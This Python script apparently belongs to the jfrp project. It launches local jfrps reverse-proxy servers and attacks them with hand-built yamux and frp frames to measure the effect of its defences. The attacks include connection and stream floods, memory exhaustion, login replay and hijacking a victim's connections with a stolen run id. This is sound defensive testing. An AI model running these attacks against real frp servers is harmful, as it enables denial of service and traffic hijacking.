#!/usr/bin/env python3
"""Attacks a jfrps the way an unauthenticated peer on the internet can, and prints what it cost.

Each scenario starts its own jfrps process on 127.0.0.1 (from a jar and lib directory, so the same
scenario runs against two builds: the figures in docs/SECURITY.md were taken this way, before and
after the defences), attacks it with raw sockets (plain TCP, yamux and frp frames written by hand),
and prints one line per figure. It changes nothing on the machine and stops what it starts.

    scripts/hostile-peer.py --jar server/target/jfrp-server-0.1.0-SNAPSHOT.jar all
    scripts/hostile-peer.py --jar ... silent --count 1124
    scripts/hostile-peer.py --jar ... flood-oom          # -Xmx256m, four stream-flooding sessions

Scenarios: silent, silent-nofile, trickle, ping-only, refused-login, stream-flood, flood-oom,
stolen-run-id, replay, long-name, rss-burst, all. Needs python3 with the 'cryptography' package (the
control stream is AES-128-CFB after Login), java and jcmd on PATH, prlimit (util-linux) and ss
(iproute2). Not a test: the adversarial e2e suite (e2e/.../adversarial) asserts the same defences.
"""
import argparse
import hashlib
import json
import os
import re
import select
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

try:  # cryptography >= 47 keeps CFB among its "decrepit" modes
    from cryptography.hazmat.decrepit.ciphers.modes import CFB
except ImportError:
    CFB = modes.CFB

TOKEN = "hostile-peer-token"
HOST = "127.0.0.1"

# yamux
DATA, WINDOW_UPDATE, PING, GO_AWAY = 0, 1, 2, 3
SYN, ACK, FIN, RST = 1, 2, 4, 8


def yamux_header(ftype, flags, stream, length):
    return struct.pack(">BBHII", 0, ftype, flags, stream, length)


def frp_frame(type_char, body):
    raw = json.dumps(body, separators=(",", ":")).encode()
    return type_char.encode() + struct.pack(">q", len(raw)) + raw


def privilege_key(token, ts):
    return hashlib.md5((token + str(ts)).encode()).hexdigest()


def login_body(token=TOKEN, ts=None, user=""):
    ts = int(time.time()) if ts is None else ts
    return {"version": "0.70.0", "os": "linux", "arch": "amd64", "user": user,
            "privilege_key": privilege_key(token, ts), "timestamp": ts, "client_spec": {},
            "pool_count": 1}


def free_port():
    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


class Jfrps:
    """A jfrps process with a TOML configuration, its log, and the figures read from outside."""

    extra_java_opts = []

    def __init__(self, jar, extra_toml="", java_opts=(), nofile=None):
        self.dir = tempfile.mkdtemp(prefix="hostile-peer-")
        self.port = free_port()
        self.proxy_port = free_port()
        conf = os.path.join(self.dir, "frps.toml")
        with open(conf, "w") as f:
            f.write(f'bindAddr = "{HOST}"\nbindPort = {self.port}\nauth.token = "{TOKEN}"\n{extra_toml}\n')
        lib = os.path.join(os.path.dirname(os.path.abspath(jar)), "lib")
        cmd = []
        if nofile:
            cmd += ["prlimit", f"--nofile={nofile}", "--"]
        cmd += ["java", *Jfrps.extra_java_opts, *java_opts, "-cp", f"{jar}:{lib}/*", "io.jfrp.server.cli.Jfrps", "-c", conf]
        self.log_path = os.path.join(self.dir, "jfrps.log")
        self.proc = subprocess.Popen(cmd, stdout=open(self.log_path, "w"), stderr=subprocess.STDOUT)
        deadline = time.time() + 120
        while time.time() < deadline:
            try:
                socket.create_connection((HOST, self.port), timeout=1).close()
                time.sleep(0.3)
                return
            except OSError:
                time.sleep(0.2)
        self.close()
        raise RuntimeError("jfrps did not start: " + self.log())

    def log(self):
        with open(self.log_path, errors="replace") as f:
            return f.read()

    def alive(self):
        return self.proc.poll() is None

    def rss_mib(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return -1

    def fds(self):
        return len(os.listdir(f"/proc/{self.proc.pid}/fd"))

    def heap_after_gc_mib(self):
        """Live heap: used bytes after a full GC (jcmd GC.run then GC.heap_info)."""
        subprocess.run(["jcmd", str(self.proc.pid), "GC.run"], capture_output=True, timeout=60)
        out = subprocess.run(["jcmd", str(self.proc.pid), "GC.heap_info"], capture_output=True, text=True,
                             timeout=60).stdout
        m = re.search(r"used (\d+)K", out)
        return int(m.group(1)) / 1024 if m else -1

    def established_from_clients(self):
        """Connections to bindPort the server still holds (ss, server side)."""
        out = subprocess.run(["ss", "-tnH", "state", "established", f"( sport = :{self.port} )"],
                             capture_output=True, text=True).stdout
        return len([l for l in out.splitlines() if l.strip()])

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def close(self):
        """Stops the process (SIGTERM, then SIGKILL after 15 s); again, it does nothing."""
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


def open_count(socks):
    """Sockets the server has not closed: reads whatever it sent (a GoAway, say) until an end of
    stream, a reset or nothing more to read."""
    n = 0
    for s in socks:
        try:
            s.setblocking(False)
            closed = False
            while True:
                try:
                    data = s.recv(65536)
                except BlockingIOError:
                    break
                if data == b"":
                    closed = True
                    break
            s.setblocking(True)
            n += not closed
        except OSError:
            continue
    return n


def connect_many(port, count, addresses=1):
    """`count` connections, from 127.0.0.1 or spread over `addresses` source addresses 127.1.x.y
    (all of 127.0.0.0/8 is loopback), as a flood from many hosts would come."""
    socks = []
    for i in range(count):
        try:
            source = None if addresses <= 1 else (f"127.1.{(i % addresses) // 250}.{(i % addresses) % 250 + 1}", 0)
            socks.append(socket.create_connection((HOST, port), timeout=5, source_address=source))
        except OSError:
            break
    return socks


def close_all(socks):
    for s in socks:
        try:
            s.close()
        except OSError:
            pass


class AesCfb:
    """frp's control-stream cipher: AES-128-CFB, key PBKDF2-HMAC-SHA1(token, 'frp', 64), IV first."""

    def __init__(self, token):
        kdf = PBKDF2HMAC(algorithm=hashes.SHA1(), length=16, salt=b"frp", iterations=64)
        self.key = kdf.derive(token.encode())
        self.enc = None
        self.dec = None
        self.pending_iv = b""

    def encrypt(self, data):
        prefix = b""
        if self.enc is None:
            iv = os.urandom(16)
            self.enc = Cipher(algorithms.AES(self.key), CFB(iv)).encryptor()
            prefix = iv
        return prefix + self.enc.update(data)

    def decrypt(self, data):
        if self.dec is None:
            self.pending_iv += data
            if len(self.pending_iv) < 16:
                return b""
            iv, data = self.pending_iv[:16], self.pending_iv[16:]
            self.dec = Cipher(algorithms.AES(self.key), CFB(iv)).decryptor()
        return self.dec.update(data)


class YamuxClient:
    """A yamux session in the client role on a plain connection, frames written by hand. A reader
    thread answers pings, collects each stream's data and notes FIN/RST."""

    def __init__(self, port, answer_pings=True):
        self.sock = socket.create_connection((HOST, port), timeout=10)
        self.answer_pings = answer_pings
        self.lock = threading.Lock()
        self.data = {}
        self.data_lock = threading.Lock()
        self.plain = {}
        self.ended = set()
        self.closed = False
        self.next_id = 1
        self.frames_in = 0
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, b):
        with self.lock:
            self.sock.sendall(b)

    def open_stream(self):
        sid = self.next_id
        self.next_id += 2
        self.send(yamux_header(WINDOW_UPDATE, SYN, sid, 0))
        return sid

    def write(self, sid, payload):
        self.send(yamux_header(DATA, 0, sid, len(payload)) + payload)

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        try:
            self.sock.settimeout(None)
            while True:
                _, ftype, flags, sid, length = struct.unpack(">BBHII", self._recv_exact(12))
                self.frames_in += 1
                if ftype == DATA:
                    payload = self._recv_exact(length) if length else b""
                    if payload:
                        with self.data_lock:
                            self.data[sid] = self.data.get(sid, b"") + payload
                        # give the credit back so the server never stalls
                        self.send(yamux_header(WINDOW_UPDATE, 0, sid, length))
                elif ftype == PING and flags & SYN and self.answer_pings:
                    self.send(yamux_header(PING, ACK, 0, length))
                elif ftype == GO_AWAY:
                    break
                if flags & (FIN | RST):
                    self.ended.add(sid)
        except (OSError, EOFError, ValueError):
            pass
        self.closed = True

    def is_open(self):
        return not self.closed

    def read_frp(self, sid, timeout=10, cipher=None):
        """The next frp message on stream sid, as (type char, dict); None when none came."""
        deadline = time.time() + timeout
        while True:
            with self.data_lock:
                raw = self.data.pop(sid, b"")
            buf = self.plain.get(sid, b"") + (cipher.decrypt(raw) if cipher else raw)
            self.plain[sid] = buf
            if len(buf) >= 9:
                length = struct.unpack(">q", buf[1:9])[0]
                if len(buf) >= 9 + length:
                    self.plain[sid] = buf[9 + length:]
                    return chr(buf[0]), json.loads(buf[9:9 + length])
            if time.time() > deadline or sid in self.ended or self.closed:
                return None
            time.sleep(0.02)

    def switch_to_cipher(self, sid):
        """Bytes after the LoginResp were read as plain text: give them back to be decrypted."""
        with self.data_lock:
            self.data[sid] = self.plain.pop(sid, b"") + self.data.get(sid, b"")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def logged_in(port, body=None):
    """A yamux session that logged in; returns (session, stream id, LoginResp, the cipher)."""
    y = YamuxClient(port)
    sid = y.open_stream()
    y.write(sid, frp_frame("o", body or login_body()))
    resp = y.read_frp(sid)
    y.switch_to_cipher(sid)
    return y, sid, resp, AesCfb(TOKEN)


# ------------------------------------------------------------------ scenarios

def scenario_silent(args):
    with Jfrps(args.jar) as s:
        socks = connect_many(s.port, args.count, addresses=100)
        time.sleep(args.wait)
        print(f"silent: {open_count(socks)} of {len(socks)} connections (from 100 addresses) still open after "
              f"{args.wait} s")
        close_all(socks)


def scenario_silent_nofile(args):
    """jfrps under a 1024-descriptor limit: silent connections, then a real client tries to log in."""
    with Jfrps(args.jar, nofile=1024) as s:
        socks = connect_many(s.port, args.count, addresses=100)
        time.sleep(2)
        y, _, resp, _ = logged_in(s.port)
        ok = resp is not None and resp[0] == "1" and not resp[1].get("error")
        print(f"silent-nofile: {len(socks)} silent connections from 100 addresses; a client logging in during the flood: "
              f"{'logged in' if ok else 'failed'}")
        y.close()
        time.sleep(args.wait)
        still = open_count(socks)
        close_all(socks)
        time.sleep(1)
        y, _, resp, _ = logged_in(s.port)
        ok_after = resp is not None and resp[0] == "1" and not resp[1].get("error")
        y.close()
        log = s.log()
        print(f"silent-nofile: {still} of {len(socks)} still open after {args.wait} s; after the flood a client"
              f" {'logged in' if ok_after else 'failed'}; log: {log.count('Too many open files')} "
              f"'Too many open files' mentions, {len(log.splitlines())} lines")


def scenario_trickle(args):
    """Connections that send one byte every 2 s: a TLS record header, yamux header bytes, a frp frame."""
    with Jfrps(args.jar) as s:
        kinds = {
            "tls": b"\x16\x03\x01\x02\x00" + b"\x01" * 100,
            "yamux": yamux_header(PING, SYN, 0, 1) * 20,
            "frp-in-stream": None,
        }
        socks = {k: connect_many(s.port, 20) for k in kinds}
        streams = []
        for sock in socks["frp-in-stream"]:
            sock.sendall(yamux_header(WINDOW_UPDATE, SYN, 1, 0))
        login = frp_frame("o", login_body())
        start = time.time()
        i = 0
        while time.time() - start < args.wait:
            for k, lst in socks.items():
                for sock in lst:
                    try:
                        if k == "frp-in-stream":
                            sock.sendall(yamux_header(DATA, 0, 1, 1) + login[i % len(login):i % len(login) + 1])
                        else:
                            data = kinds[k]
                            sock.sendall(data[i % len(data):i % len(data) + 1])
                    except OSError:
                        pass
            i += 1
            time.sleep(2)
        for k, lst in socks.items():
            print(f"trickle {k}: {open_count(lst)} of {len(lst)} still open after {args.wait} s")
            close_all(lst)


def scenario_ping_only(args):
    with Jfrps(args.jar) as s:
        sessions = []
        for _ in range(args.count):
            y = YamuxClient(s.port)
            y.send(yamux_header(PING, SYN, 0, 7))
            sessions.append(y)
        time.sleep(args.wait)
        print(f"ping-only: {sum(y.is_open() for y in sessions)} of {len(sessions)} sessions still open after "
              f"{args.wait} s")
        for y in sessions:
            y.close()


def scenario_refused_login(args):
    with Jfrps(args.jar) as s:
        sessions = []
        errors = 0
        turned_away = 0
        for _ in range(args.count):
            try:
                y = YamuxClient(s.port)
                sid = y.open_stream()
                y.write(sid, frp_frame("o", login_body(token="wrong")))
                sessions.append(y)
            except OSError:
                turned_away += 1
        for y in sessions:
            resp = y.read_frp(1, timeout=5)
            errors += resp is not None and bool(resp[1].get("error"))
        time.sleep(args.wait)
        print(f"refused-login: {errors} LoginResp errors, {turned_away} connections turned away at once; "
              f"{sum(y.is_open() for y in sessions)} of {args.count} sessions still open after {args.wait} s")
        for y in sessions:
            y.close()


def flood(port, seconds, rate=19_000):
    """Opens streams at `rate` SYN/s for `seconds` (below the 20,000/s flood guard); sends nothing on
    them. Returns the session."""
    y = YamuxClient(port)
    sid = 1
    end = time.time() + seconds
    batch = rate // 20
    while time.time() < end and not y.closed:
        t = time.time()
        frames = b"".join(yamux_header(WINDOW_UPDATE, SYN, sid + 2 * k, 0) for k in range(batch))
        sid += 2 * batch
        try:
            y.send(frames)
        except OSError:
            break
        time.sleep(max(0.0, 0.05 - (time.time() - t)))
    y.syns = (sid - 1) // 2
    return y


def scenario_stream_flood(args):
    with Jfrps(args.jar) as s:
        base_heap = s.heap_after_gc_mib()
        base_rss = s.rss_mib()
        sessions = [threading.Thread(target=lambda: sessions_out.append(flood(s.port, args.seconds)))
                    for _ in range(args.sessions)]
        sessions_out = []
        for t in sessions:
            t.start()
        for t in sessions:
            t.join()
        time.sleep(1)
        heap = s.heap_after_gc_mib()
        print(f"stream-flood: {args.sessions} sessions sent {sum(y.syns for y in sessions_out)} SYNs in "
              f"{args.seconds} s; live heap {base_heap:.0f} -> {heap:.0f} MiB, RSS {base_rss:.0f} -> "
              f"{s.rss_mib():.0f} MiB; sessions still open: {sum(y.is_open() for y in sessions_out)}")
        time.sleep(12)
        heap2 = s.heap_after_gc_mib()
        print(f"stream-flood: 12 s later (streams past the 10 s first-message deadline): live heap {heap2:.0f} MiB;"
              f" sessions still open: {sum(y.is_open() for y in sessions_out)}; RSS {s.rss_mib():.0f} MiB")
        for y in sessions_out:
            y.close()


def scenario_flood_oom(args):
    """jfrps with -Xmx256m, four stream-flooding sessions; then a new client asks for a tunnel."""
    with Jfrps(args.jar, java_opts=["-Xmx256m"],
               extra_toml="allowPorts = [{ start = 1024, end = 65535 }]") as s:
        out = []
        threads = [threading.Thread(target=lambda: out.append(flood(s.port, args.seconds))) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        time.sleep(15)
        for y in out:
            y.close()
        time.sleep(3)
        alive = s.alive()
        tunnel = "n/a (process gone)"
        if alive:
            try:
                y, sid, resp, cipher = logged_in(s.port)
                if resp and not resp[1].get("error"):
                    y.write(sid, cipher.encrypt(frp_frame("p", {"proxy_name": "after-flood", "proxy_type": "tcp",
                                                                "remote_port": s.proxy_port})))
                    msg = y.read_frp(sid, cipher=cipher, timeout=10)
                    while msg is not None and msg[0] != "2":
                        msg = y.read_frp(sid, cipher=cipher, timeout=10)
                    tunnel = "got its tunnel" if msg and not msg[1].get("error") else f"no tunnel ({msg})"
                else:
                    tunnel = f"login failed ({resp})"
                y.close()
            except OSError as e:
                tunnel = f"failed ({e})"
        s.close()  # an OutOfMemoryError may be logged only when the process is asked to stop
        log = s.log()
        print(f"flood-oom: -Xmx256m, 4 sessions x {args.seconds} s: OutOfMemoryError in log "
              f"{log.count('OutOfMemoryError')} times; process {'alive' if alive else 'exited'}"
              f" before it was stopped; a new client afterwards: {tunnel}; exit code after SIGTERM"
              f" {s.proc.poll()}")
        if os.environ.get("HOSTILE_PEER_KEEP"):
            print("log: " + s.log_path)


def scenario_stolen_run_id(args):
    """A victim logs in with a tcp proxy; an attacker who learned its run id offers NewWorkConns
    (without a key, as stock frpc sends them) from another connection; public connections follow."""
    with Jfrps(args.jar) as s:
        victim, vsid, resp, cipher = logged_in(s.port)
        run_id = resp[1]["run_id"]
        victim.write(vsid, cipher.encrypt(frp_frame("p", {"proxy_name": "victim", "proxy_type": "tcp",
                                                          "remote_port": s.proxy_port})))
        attacker = YamuxClient(s.port)
        attack_streams = []
        for _ in range(5):
            sid = attacker.open_stream()
            attacker.write(sid, frp_frame("w", {"run_id": run_id}))
            attack_streams.append(sid)
        time.sleep(1)
        publics = [socket.create_connection((HOST, s.proxy_port), timeout=5) for _ in range(5)]
        time.sleep(2)
        stolen = 0
        for sid in attack_streams:
            msg = attacker.read_frp(sid, timeout=0.5)
            if msg and msg[0] == "s" and not msg[1].get("error"):
                stolen += 1
        print(f"stolen-run-id: attacker's NewWorkConns got {stolen} of {len(publics)} public connections "
              f"meant for the victim")
        close_all(publics)
        attacker.close()
        victim.close()


def scenario_replay(args):
    """A Login captured and sent again args.wait seconds later from another connection."""
    with Jfrps(args.jar) as s:
        body = login_body()
        y1, _, r1, _ = logged_in(s.port, body)
        time.sleep(args.wait)
        y2, _, r2, _ = logged_in(s.port, body)
        print(f"replay: first Login {'accepted' if r1 and not r1[1].get('error') else 'refused'}; the same Login "
              f"{args.wait} s later: {'accepted' if r2 and not r2[1].get('error') else 'refused (' + str(r2) + ')'}")
        y1.close()
        y2.close()


def scenario_long_name(args):
    with Jfrps(args.jar) as s:
        y, sid, resp, cipher = logged_in(s.port)
        name = "n" * 10_000
        y.write(sid, cipher.encrypt(frp_frame("p", {"proxy_name": name,
                                                    "proxy_type": "tcp", "remote_port": s.proxy_port})))
        msg = y.read_frp(sid, cipher=cipher)
        while msg is not None and msg[0] != "2":
            msg = y.read_frp(sid, cipher=cipher)
        if msg is None:
            print("long-name: no NewProxyResp (the connection ended)")
        else:
            err = msg[1].get("error", "")
            print(f"long-name: a {len(name)}-character proxy name: "
                  f"{'refused: ' + err if err else 'accepted, serving on ' + msg[1].get('remote_addr', '')}")
        y.close()


def scenario_rss_burst(args):
    """RSS before a burst of 2,000 logins with 4 streams each, right after, and 60 s later."""
    with Jfrps(args.jar) as s:
        before = s.rss_mib()
        sessions = []
        for _ in range(args.count):
            try:
                y, sid, _, _ = logged_in(s.port)
                for _ in range(4):
                    y.open_stream()
                sessions.append(y)
            except OSError:
                break
        peak = s.rss_mib()
        for y in sessions:
            y.close()
        time.sleep(5)
        after5 = s.rss_mib()
        time.sleep(args.wait)
        print(f"rss-burst: {len(sessions)} logged-in sessions: RSS {before:.0f} MiB before, {peak:.0f} at the peak,"
              f" {after5:.0f} 5 s after they left, {s.rss_mib():.0f} {args.wait + 5} s after")


SCENARIOS = {
    "silent": (scenario_silent, dict(count=1124, wait=30)),
    "silent-nofile": (scenario_silent_nofile, dict(count=1124, wait=15)),
    "trickle": (scenario_trickle, dict(wait=40)),
    "ping-only": (scenario_ping_only, dict(count=200, wait=45)),
    "refused-login": (scenario_refused_login, dict(count=200, wait=45)),
    "stream-flood": (scenario_stream_flood, dict(sessions=2, seconds=8)),
    "flood-oom": (scenario_flood_oom, dict(seconds=8)),
    "stolen-run-id": (scenario_stolen_run_id, {}),
    "replay": (scenario_replay, dict(wait=3)),
    "long-name": (scenario_long_name, {}),
    "rss-burst": (scenario_rss_burst, dict(count=2000, wait=60)),
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--jar", required=True, help="jfrp-server jar; its lib/ directory must be next to it")
    p.add_argument("scenario", choices=[*SCENARIOS, "all"])
    p.add_argument("--count", type=int)
    p.add_argument("--wait", type=int)
    p.add_argument("--seconds", type=int)
    p.add_argument("--sessions", type=int)
    p.add_argument("--java-opts", default="", help="JVM options for jfrps, e.g. the launcher's: "
                   "\"$(source packaging/launcher/jfrp-jvm.sh; jfrp_runtime_opts jfrps | grep -v OnOutOf)\"")
    args = p.parse_args()
    Jfrps.extra_java_opts = args.java_opts.split()
    for tool in ("java", "jcmd", "prlimit", "ss"):
        if shutil.which(tool) is None:
            sys.exit(f"hostile-peer: {tool} is not on PATH")
    names = list(SCENARIOS) if args.scenario == "all" else [args.scenario]
    for name in names:
        fn, defaults = SCENARIOS[name]
        a = argparse.Namespace(**{**vars(args)})
        for k, v in defaults.items():
            if getattr(a, k, None) is None:
                setattr(a, k, v)
        fn(a)
        sys.stdout.flush()


if __name__ == "__main__":
    main()
